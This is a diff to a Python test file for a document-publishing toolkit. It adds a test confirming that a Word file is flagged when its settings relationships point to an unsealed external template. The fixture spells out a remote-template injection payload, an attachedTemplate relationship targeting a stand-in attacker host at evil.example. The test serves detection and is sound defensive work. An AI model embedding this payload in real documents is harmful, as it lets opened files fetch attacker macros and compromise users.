@@ -8,6 +8,7 @@ import pytest
 
 from tests.editions.shelf import BUILT, FIRST, FORM, PDF, SECOND, THIRD, WORD, Shelf, row, word
 from toolkit_builder.errors import EditionError
+from toolkit_builder.machine.zips import unzipped, zipped
 from toolkit_builder.publish import manifest
 from toolkit_builder.publish import seal as form
 from toolkit_builder.publish.archive import Archive
@@ -444,6 +445,23 @@ def test_other_words_of_another_renderer_are_named(shelf):
     shelf.rebuild({WORD: word("Dear all")}, {**BUILT, "lxml": "6.0"})
 
     assert shelf.told() == [f"{near(shelf)}/{WORD} P116 {WORD} does not say what was sealed: other words"]
+
+
+TEMPLATE = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="r1" TargetMode="External" Target="https://evil.example/x.dotm" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    b"</Relationships>"
+)
+
+
+def test_the_same_words_of_another_renderer_lead_nowhere_else(shelf):
+    evil = zipped({**unzipped(word("Dear families")), "word/_rels/settings.xml.rels": TEMPLATE})
+    shelf.rebuild({WORD: evil}, {**BUILT, "lxml": "6.0"})
+
+    (told,) = shelf.told()
+    assert "P116" in told
+    assert "it leads to attachedTemplate https://evil.example/x.dotm, which was not sealed" in told
 
 
 def test_other_words_are_not_looked_for_without_the_bundle(shelf):
